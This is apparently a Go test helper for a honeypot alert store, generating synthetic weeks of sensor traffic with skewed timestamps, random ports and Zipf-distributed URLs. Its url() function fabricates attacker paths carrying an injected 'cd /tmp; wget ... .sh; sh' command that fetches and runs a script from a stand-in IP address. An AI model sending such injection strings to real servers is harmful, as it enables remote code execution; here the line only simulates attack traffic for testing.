package storetest

import (
	"fmt"
	"math/rand/v2"
	"time"

	"github.com/peba-edge/peba/alert"
)

// NewHistory returns the traffic of weeks, for questions about it: of 1,000
// sensors and 60,000 sources, with 5,000 URLs that occur often, as many URLs
// again as attackers think of, all ports, and clocks that are late or ahead.
func NewHistory(seed uint64) *History {
	t := NewTraffic(seed, 1000)
	t.sources = rand.NewZipf(t.rng, 1.07, 200, 60_000)
	return &History{Traffic: t, urls: rand.NewZipf(t.rng, 1.2, 10, 5000)}
}

// History makes messages as Traffic does, of more variety.
type History struct {
	*Traffic
	urls   *rand.Zipf
	unique int
}

// Message returns n alerts of one honeypot, received at the given time.
func (h *History) Message(received time.Time, n int) []alert.Record {
	message := h.Traffic.Message(received, n)
	for i := range message {
		r := &message[i]
		switch dice := h.rng.IntN(1000); {
		case dice < 8: // kept back by the sensor for hours
			h.createdAt(r, received.Add(-time.Duration(h.rng.IntN(48*3600))*time.Second))
		case dice < 9: // ahead
			h.createdAt(r, received.Add(time.Duration(h.rng.IntN(24*3600))*time.Second))
		}
		if r.PeerType == "Webpage" {
			r.OriginalRequestString = h.url()
		}
		if r.OriginalRequestString != "" && r.PeerType != "Webpage" && h.rng.IntN(5) == 0 {
			r.TargetEntryPort = fmt.Sprint(1 + h.rng.IntN(65535))
		}
	}
	return message
}

// createdAt changes when the alert happened.
func (h *History) createdAt(r *alert.Record, created time.Time) {
	r.CreateTime = alert.At(created)
	r.ID = h.id(created.Unix())
}

// url returns a path; three in ten never occur again.
func (h *History) url() string {
	if h.rng.IntN(10) < 3 {
		h.unique++
		return fmt.Sprintf("/shell?cd+/tmp;wget+http://203.0.113.9/%x.sh;sh+%d", h.rng.Uint64(), h.unique)
	}
	return fmt.Sprintf("/path/%d/index.php", h.urls.Uint64())
}

// Source returns the n-th busiest source.
func (h *History) Source(n uint64) string { return address(n) }
